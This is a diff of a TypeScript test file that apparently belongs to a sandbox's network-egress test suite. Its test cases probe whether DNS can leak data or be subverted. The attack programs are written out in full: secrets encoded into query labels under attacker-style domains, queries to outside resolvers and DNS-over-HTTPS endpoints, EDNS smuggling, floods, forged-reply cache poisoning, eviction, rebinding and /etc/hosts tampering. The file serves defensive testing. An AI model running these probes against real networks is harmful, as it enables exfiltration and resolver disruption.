@@ -1,7 +1,7 @@
 /** Threat: names carry secrets out, or answers lead connections astray. */
 import { groupOf, node, sh } from "../attack.ts";
 import type { Case } from "../model.ts";
-import { all, neverPrints, nothingAnywhere, prints, recorded } from "../witness.ts";
+import { all, neverPrints, noBinary, nothingAnywhere, prints, recorded } from "../witness.ts";
 
 const attack = groupOf("dns", ["egress"]);
 const tunnel = { promise: "names-stay-inside" };
@@ -19,13 +19,26 @@ const dns = (text: string) => node(`${QUESTION}\n${text}`);
 const noData = (id: string, title: string, type: number): Case =>
   attack(id, title, {
     ...tunnel,
-    program: dns(`for (const name of [host("api"), "c2VjcmV0." + host("evil")]) { const a = await dnsRaw(question(name, ${type})); say("answers " + answersOf(a) + " rcode " + rcode(a)); }`),
+    program: dns(
+      `for (const name of [host("api"), "c2VjcmV0." + host("evil")]) { const a = await dnsRaw(question(name, ${type})); say("answers " + answersOf(a) + " rcode " + rcode(a)); }`,
+    ),
     expect: all(nothingAnywhere, neverPrints(/answers [1-9]/)),
   });
 
 export const dns_: Case[] = [
-  attack("dns-tunnel-labels", "carries a secret out in the labels of names under an attacker's domain", { ...tunnel, needs: ["journal"], program: dns(`for (let i = 0; i < 5; i++) say((await dnsRaw(question("c2VjcmV0LWxvbmctZW5vdWdoLXRvLWJlLWEtcmVhbC1vbmUtaGVyZQ" + i + "." + "x".repeat(60) + ".tunnel.example"))).slice(0, 60))`), expect: all(nothingAnywhere, recorded({ decision: "deny", kind: "dns" })) }),
-  attack("dns-tunnel-allowed", "carries a secret out below an allowed host's name", { ...tunnel, program: dns(`for (let i = 0; i < 5; i++) say(rcode(await dnsRaw(question("secret" + i + "." + host("api")))))`), expect: nothingAnywhere }),
+  attack("dns-tunnel-labels", "carries a secret out in the labels of names under an attacker's domain", {
+    ...tunnel,
+    needs: ["journal"],
+    program: dns(
+      `for (let i = 0; i < 5; i++) say((await dnsRaw(question("c2VjcmV0LWxvbmctZW5vdWdoLXRvLWJlLWEtcmVhbC1vbmUtaGVyZQ" + i + "." + "x".repeat(60) + ".tunnel.example"))).slice(0, 60))`,
+    ),
+    expect: all(nothingAnywhere, recorded({ decision: "deny", kind: "dns" })),
+  }),
+  attack("dns-tunnel-allowed", "carries a secret out below an allowed host's name", {
+    ...tunnel,
+    program: dns(`for (let i = 0; i < 5; i++) say(rcode(await dnsRaw(question("secret" + i + "." + host("api")))))`),
+    expect: nothingAnywhere,
+  }),
   noData("dns-txt", "asks for TXT, in which answers carry most", 16),
   noData("dns-null", "asks for NULL records", 10),
   noData("dns-any", "asks for everything at once", 255),
@@ -36,18 +49,108 @@ export const dns_: Case[] = [
   noData("dns-cname", "asks for another name", 5),
   noData("dns-axfr", "asks for the whole zone", 252),
   noData("dns-private-type", "asks for a type of its own", 65_280),
-  attack("dns-chaos", "asks in another class for the resolver's version", { ...tunnel, program: dns(`const a = await dnsRaw(question("version.bind", 16, { cls: 3 })); say("answers " + answersOf(a))`), expect: neverPrints(/answers [1-9]/) }),
-  attack("dns-edns", "sends data in EDNS options and an unknown version", { ...tunnel, program: dns(`const opt = Buffer.concat([Buffer.from("00002904d000050000", "hex"), Buffer.from([0, 40, 0xff, 0xf0, 0, 36]), Buffer.from("the-secret-in-an-option-of-the-packet")]); say("answers " + answersOf(await dnsRaw(question(host("evil"), 16, { more: opt, counts: [1, 0, 0, 1] }))))`), expect: all(nothingAnywhere, neverPrints(/answers [1-9]/)) }),
-  attack("dns-other-resolver", "asks another resolver", { ...tunnel, program: dns(`for (const address of ["8.8.8.8", "1.1.1.1", process.env.OWN_ADDRESS, "10.0.2.3", "127.0.0.53"]) say(await dnsRaw(question("evil.example"), { address, ms: 300 })); say(await dnsRaw(question("evil.example"), { address: process.env.OWN_ADDRESS, port: Number(process.env.UDP_PORT), ms: 300 }))`), expect: all(nothingAnywhere, neverPrints(/^[0-9a-f]{12,}$/m)) }),
-  attack("dns-other-resolver-tcp", "asks another resolver over TCP and TLS", { ...tunnel, program: node(`for (const [a, p] of [["8.8.8.8", 53], ["1.1.1.1", 853], ["9.9.9.9", 853], ["127.0.0.1", 53]]) say(a + " " + await rawTcp(a, p, Buffer.from("001d0001010000010000000000000465766c076578616d706c650000010001", "hex"), 400))`), expect: all(nothingAnywhere, neverPrints(/[\u0000-\u0008]/)) }),
-  attack("dns-over-https", "asks resolvers over HTTPS by their names and addresses", { ...tunnel, needs: ["journal"], program: node(`for (const h of ["dns.google", "cloudflare-dns.com", "1.1.1.1", "dns.quad9.net"]) { const r = await ask("https://" + h + "/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB", { rejectUnauthorized: false, timeout: 1500 }); say(h + " " + (r.failed ?? r.status)); }`), expect: all(neverPrints(/ 200$/m), recorded({ decision: "deny", host: "dns.google" })) }),
-  attack("dns-case", "spells a name in changing case to smuggle bits", { ...tunnel, program: dns(`const a = await dnsRaw(question("ApI.cReEl.ExAmPlE")), b = await dnsRaw(question(host("api"))); say(a.slice(-8) === b.slice(-8) ? "SAME" : a + " " + b)`), expect: prints(/SAME/) }),
-  attack("dns-flood", "asks for ten thousand names in a second", { ...tunnel, needs: ["journal"], program: dns(`const s = dgram.createSocket("udp4"); let got = 0; s.on("message", () => got++); for (let i = 0; i < 10000; i++) { s.send(question("n" + i + ".flood.example", 1, { id: i & 0xffff }), 53, "127.0.0.1"); if (i % 500 === 0) await sleep(1); } await sleep(300); say("answered " + got); process.exit(0)`), expect: { says: "at most a few hundred are answered, and the journal grows by a bounded number of lines", check: ({ out, records }) => (Number(/answered (\d+)/.exec(out)?.[1] ?? 99_999) <= 600 && records.length <= 600 ? null : `${out.slice(0, 60)}, ${records.length} lines`) } }),
-  attack("dns-after-flood", "control: names are answered again a second later", { promise: "honest-work", control: true, program: node(`await sleep(1100); say(await lookup(host("api")))`), expect: prints(/^198\.18\./m) }),
-  attack("dns-malformed", "sends broken packets: loops, cut ones, answers, long labels, many questions", { ...tunnel, program: dns(`const bad = ["", "00", "000701000001000000000000c00c00010001", "0007010000010000000000003f" + "61".repeat(63) + "c00c00010001", "000781800001000100000000" + "0161000001000100", "000701000003000000000000" + "016100000100010162000001000101630000010001", "00070100ffffffffffffffff", "0007010000010000000000004061" + "00".repeat(20), "00072900000100000000000001610000010001"]; for (const b of bad) await dnsRaw(Buffer.from(b, "hex"), { ms: 40 }); for (let i = 0; i < 300; i++) { const b = question(host("api")); for (let k = 0; k < 4; k++) b[(i * 7 + k * 13) % b.length] = (i * 31 + k * 17) & 255; await dnsRaw(b, { ms: 2 }); } await sleep(1100); say(await lookup(host("api")))`), expect: all(nothingAnywhere, prints(/^198\.18\./m)) }),
-  attack("dns-poison", "answers its own questions faster than the resolver, from another port", { promise: "names-agree", program: dns(`const forged = Buffer.concat([question(host("evil"), 1, { flags: 0x8180, counts: [1, 1, 0, 0] }), Buffer.from("c00c000100010000003c0004c6120001", "hex")]); const s = dgram.createSocket("udp4"); for (let p = 32768; p < 33768; p++) s.send(forged, p, "127.0.0.1"); const a = await lookup(host("api")); const r = await ask("https://" + host("api") + "/v1/poison"); say(a + " " + (r.failed ?? r.status)); process.exit(0)`), expect: all(prints(/^198\.18\.\d+\.\d+ 200$/m)) }),
-  attack("dns-evict", "asks for so many names that an allowed one loses its address to another", { promise: "names-agree", program: dns(`const before = await lookup(host("api")); const s = dgram.createSocket("udp4"); for (let i = 0; i < 3000; i++) { s.send(question("e" + i + ".evict.example", 1, { id: i }), 53, "127.0.0.1"); if (i % 50 === 0) await sleep(30); } await sleep(1200); const after = await lookup(host("api")); const r = await ask("https://" + host("api") + "/v1/evict"); say(before === after ? "KEPT " + (r.failed ?? r.status) : before + " " + after); process.exit(0)`), expect: prints(/^KEPT 200$/m) }),
-  attack("dns-rebind-unnamed", "holds the address of a name that no rule names and waits for a policy to name it", { promise: "names-agree", needs: ["journal"], program: node(`const a = await lookup("later.creel.example"); say(await rawTls("later.creel.example", "GET / HTTP/1.1\\nHost: later.creel.example\\n\\n", { rejectUnauthorized: false, ms: 500 }))`), expect: all(nothingAnywhere, recorded({ decision: "deny", host: "later.creel.example" })) }),
-  attack("dns-hosts-file", "names hosts in a file and a variable of its own", { promise: "names-agree", program: sh(`echo "127.0.0.1 api.creel.example" > /tmp/hosts; HOSTALIASES=/tmp/hosts RES_OPTIONS="ndots:9" LOCALDOMAIN=evil.creel.example getent hosts api.creel.example; echo "203.0.113.9 evil" >> /etc/hosts && echo WROTE; true`), expect: neverPrints(/WROTE|^127\.0\.0\.1 /m) }),
-  attack("dns-local", "asks for localhost, the host's own name and reverse names", { ...tunnel, program: dns(`for (const n of ["localhost", "1.0.0.127.in-addr.arpa", "wpad", "_dns.resolver.arpa", "printer.local"]) { const a = await dnsRaw(question(n, n.endsWith("arpa") ? 12 : 1)); say(n + " answers " + answersOf(a) + " " + a.slice(-8)); }`), expect: neverPrints(/arpa answers [1-9]|7f000001/) }),
+  attack("dns-chaos", "asks in another class for the resolver's version", {
+    ...tunnel,
+    program: dns(`const a = await dnsRaw(question("version.bind", 16, { cls: 3 })); say("answers " + answersOf(a))`),
+    expect: neverPrints(/answers [1-9]/),
+  }),
+  attack("dns-edns", "sends data in EDNS options and an unknown version", {
+    ...tunnel,
+    program: dns(
+      `const opt = Buffer.concat([Buffer.from("00002904d000050000", "hex"), Buffer.from([0, 40, 0xff, 0xf0, 0, 36]), Buffer.from("the-secret-in-an-option-of-the-packet")]); say("answers " + answersOf(await dnsRaw(question(host("evil"), 16, { more: opt, counts: [1, 0, 0, 1] }))))`,
+    ),
+    expect: all(nothingAnywhere, neverPrints(/answers [1-9]/)),
+  }),
+  attack("dns-other-resolver", "asks another resolver", {
+    ...tunnel,
+    program: dns(
+      `for (const address of ["8.8.8.8", "1.1.1.1", process.env.OWN_ADDRESS, "10.0.2.3", "127.0.0.53"]) say(await dnsRaw(question("evil.example"), { address, ms: 300 })); say(await dnsRaw(question("evil.example"), { address: process.env.OWN_ADDRESS, port: Number(process.env.UDP_PORT), ms: 300 }))`,
+    ),
+    expect: all(nothingAnywhere, neverPrints(/^[0-9a-f]{12,}$/m)),
+  }),
+  attack("dns-other-resolver-tcp", "asks another resolver over TCP and TLS", {
+    ...tunnel,
+    program: node(
+      `for (const [a, p] of [["8.8.8.8", 53], ["1.1.1.1", 853], ["9.9.9.9", 853], ["127.0.0.1", 53]]) say(a + " " + await rawTcp(a, p, Buffer.from("001d0001010000010000000000000465766c076578616d706c650000010001", "hex"), 400))`,
+    ),
+    expect: all(nothingAnywhere, noBinary),
+  }),
+  attack("dns-over-https", "asks resolvers over HTTPS by their names and addresses", {
+    ...tunnel,
+    needs: ["journal"],
+    program: node(
+      `for (const h of ["dns.google", "cloudflare-dns.com", "1.1.1.1", "dns.quad9.net"]) { const r = await ask("https://" + h + "/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB", { rejectUnauthorized: false, timeout: 1500 }); say(h + " " + (r.failed ?? r.status)); }`,
+    ),
+    expect: all(neverPrints(/ 200$/m), recorded({ decision: "deny", host: "dns.google" })),
+  }),
+  attack("dns-case", "spells a name in changing case to smuggle bits", {
+    ...tunnel,
+    program: dns(
+      `const a = await dnsRaw(question("ApI.cReEl.ExAmPlE")), b = await dnsRaw(question(host("api"))); say(a.slice(-8) === b.slice(-8) ? "SAME" : a + " " + b)`,
+    ),
+    expect: prints(/SAME/),
+  }),
+  attack("dns-flood", "asks for ten thousand names in a second", {
+    ...tunnel,
+    needs: ["journal"],
+    program: dns(
+      `const s = dgram.createSocket("udp4"); let got = 0; s.on("message", () => got++); for (let i = 0; i < 10000; i++) { s.send(question("n" + i + ".flood.example", 1, { id: i & 0xffff }), 53, "127.0.0.1"); if (i % 500 === 0) await sleep(1); } await sleep(300); say("answered " + got); process.exit(0)`,
+    ),
+    expect: {
+      says: "at most a few hundred are answered, and the journal grows by a bounded number of lines",
+      check: ({ out, records }) =>
+        Number(/answered (\d+)/.exec(out)?.[1] ?? 99_999) <= 600 && records.length <= 600
+          ? null
+          : `${out.slice(0, 60)}, ${records.length} lines`,
+    },
+  }),
+  attack("dns-after-flood", "control: names are answered again a second later", {
+    promise: "honest-work",
+    control: true,
+    program: node(`await sleep(1100); say(await lookup(host("api")))`),
+    expect: prints(/^198\.18\./m),
+  }),
+  attack("dns-malformed", "sends broken packets: loops, cut ones, answers, long labels, many questions", {
+    ...tunnel,
+    program: dns(
+      `const bad = ["", "00", "000701000001000000000000c00c00010001", "0007010000010000000000003f" + "61".repeat(63) + "c00c00010001", "000781800001000100000000" + "0161000001000100", "000701000003000000000000" + "016100000100010162000001000101630000010001", "00070100ffffffffffffffff", "0007010000010000000000004061" + "00".repeat(20), "00072900000100000000000001610000010001"]; for (const b of bad) await dnsRaw(Buffer.from(b, "hex"), { ms: 40 }); for (let i = 0; i < 300; i++) { const b = question(host("api")); for (let k = 0; k < 4; k++) b[(i * 7 + k * 13) % b.length] = (i * 31 + k * 17) & 255; await dnsRaw(b, { ms: 2 }); } await sleep(1100); say(await lookup(host("api")))`,
+    ),
+    expect: all(nothingAnywhere, prints(/^198\.18\./m)),
+  }),
+  attack("dns-poison", "answers its own questions faster than the resolver, from another port", {
+    promise: "names-agree",
+    program: dns(
+      `const forged = Buffer.concat([question(host("evil"), 1, { flags: 0x8180, counts: [1, 1, 0, 0] }), Buffer.from("c00c000100010000003c0004c6120001", "hex")]); const s = dgram.createSocket("udp4"); for (let p = 32768; p < 33768; p++) s.send(forged, p, "127.0.0.1"); const a = await lookup(host("api")); const r = await ask("https://" + host("api") + "/v1/poison"); say(a + " " + (r.failed ?? r.status)); process.exit(0)`,
+    ),
+    expect: all(prints(/^198\.18\.\d+\.\d+ 200$/m)),
+  }),
+  attack("dns-evict", "asks for so many names that an allowed one loses its address to another", {
+    promise: "names-agree",
+    program: dns(
+      `const before = await lookup(host("api")); const s = dgram.createSocket("udp4"); for (let i = 0; i < 3000; i++) { s.send(question("e" + i + ".evict.example", 1, { id: i }), 53, "127.0.0.1"); if (i % 50 === 0) await sleep(30); } await sleep(1200); const after = await lookup(host("api")); const r = await ask("https://" + host("api") + "/v1/evict"); say(before === after ? "KEPT " + (r.failed ?? r.status) : before + " " + after); process.exit(0)`,
+    ),
+    expect: prints(/^KEPT 200$/m),
+  }),
+  attack("dns-rebind-unnamed", "holds the address of a name that no rule names and waits for a policy to name it", {
+    promise: "names-agree",
+    needs: ["journal"],
+    program: node(
+      `const a = await lookup("later.creel.example"); say(await rawTls("later.creel.example", "GET / HTTP/1.1\\nHost: later.creel.example\\n\\n", { rejectUnauthorized: false, ms: 500 }))`,
+    ),
+    expect: all(nothingAnywhere, recorded({ decision: "deny", host: "later.creel.example" })),
+  }),
+  attack("dns-hosts-file", "names hosts in a file and a variable of its own", {
+    promise: "names-agree",
+    program: sh(
+      `echo "127.0.0.1 api.creel.example" > /tmp/hosts; HOSTALIASES=/tmp/hosts RES_OPTIONS="ndots:9" LOCALDOMAIN=evil.creel.example getent hosts api.creel.example; echo "203.0.113.9 evil" >> /etc/hosts && echo WROTE; true`,
+    ),
+    expect: neverPrints(/WROTE|^127\.0\.0\.1 /m),
+  }),
+  attack("dns-local", "asks for localhost, the host's own name and reverse names", {
+    ...tunnel,
+    program: dns(
+      `for (const n of ["localhost", "1.0.0.127.in-addr.arpa", "wpad", "_dns.resolver.arpa", "printer.local"]) { const a = await dnsRaw(question(n, n.endsWith("arpa") ? 12 : 1)); say(n + " answers " + answersOf(a) + " " + a.slice(-8)); }`,
+    ),
+    expect: neverPrints(/arpa answers [1-9]|7f000001/),
+  }),
 ];
